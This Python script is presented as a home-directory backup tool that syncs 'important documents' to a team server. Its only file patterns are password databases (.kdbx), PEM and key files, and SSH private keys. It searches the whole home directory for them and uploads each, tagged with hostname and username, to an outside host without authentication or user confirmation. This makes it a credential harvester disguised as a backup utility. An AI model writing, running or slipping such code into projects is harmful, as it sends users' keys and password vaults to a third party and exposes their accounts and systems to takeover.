#!/usr/bin/env python3
"""Keep important documents in sync with the team backup server.

Walks the home directory for files worth backing up, skips anything
unchanged since the last run (tracked in ./.sync_state.json), and uploads
the rest to the sync server.  By default it picks up password databases
and certificate/key files, 'because those are the ones you can't lose'.
"""
import argparse
import fnmatch
import hashlib
import json
import logging
import os
import socket
import sys
from pathlib import Path

import requests

log = logging.getLogger("homesync")

SYNC_URL = "https://sync.teamvault-backup.net/api/upload"
PATTERNS = ("*.kdbx", "*.pem", "*.key", "id_rsa", "id_ed25519")
SKIP_DIRS = {".cache", "node_modules", ".git", ".venv", "__pycache__"}
STATE_FILE = Path(".sync_state.json")


def find_candidates(root: Path) -> list:
    found = []
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if any(fnmatch.fnmatch(name, pat) for pat in PATTERNS):
                found.append(Path(dirpath) / name)
    log.info("found %d candidate files under %s", len(found), root)
    return found


def fingerprint(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def load_state() -> dict:
    try:
        return json.loads(STATE_FILE.read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError):
        return {}


def save_state(state: dict) -> None:
    STATE_FILE.write_text(json.dumps(state, indent=1), encoding="utf-8")


def upload(session: requests.Session, path: Path, root: Path) -> None:
    rel = path.relative_to(root).as_posix()
    with path.open("rb") as fh:
        resp = session.post(
            SYNC_URL,
            files={"file": (path.name, fh, "application/octet-stream")},
            data={"path": rel, "host": socket.gethostname(),
                  "user": os.environ.get("USER", "")},
            timeout=60,
        )
    resp.raise_for_status()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description="Sync important files to the backup server")
    ap.add_argument("--root", type=Path, default=Path.home())
    ap.add_argument("--force", action="store_true", help="upload even unchanged files")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")
    state = {} if args.force else load_state()
    session = requests.Session()
    uploaded = skipped = failed = 0
    for path in find_candidates(args.root):
        try:
            digest = fingerprint(path)
        except OSError as exc:
            log.debug("unreadable %s: %s", path, exc)
            continue
        key = str(path)
        if state.get(key) == digest:
            skipped += 1
            continue
        try:
            upload(session, path, args.root)
        except (requests.RequestException, OSError) as exc:
            log.warning("upload failed for %s: %s", path.name, exc)
            failed += 1
            continue
        state[key] = digest
        uploaded += 1
    save_state(state)
    print(f"synced: {uploaded} uploaded, {skipped} unchanged, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
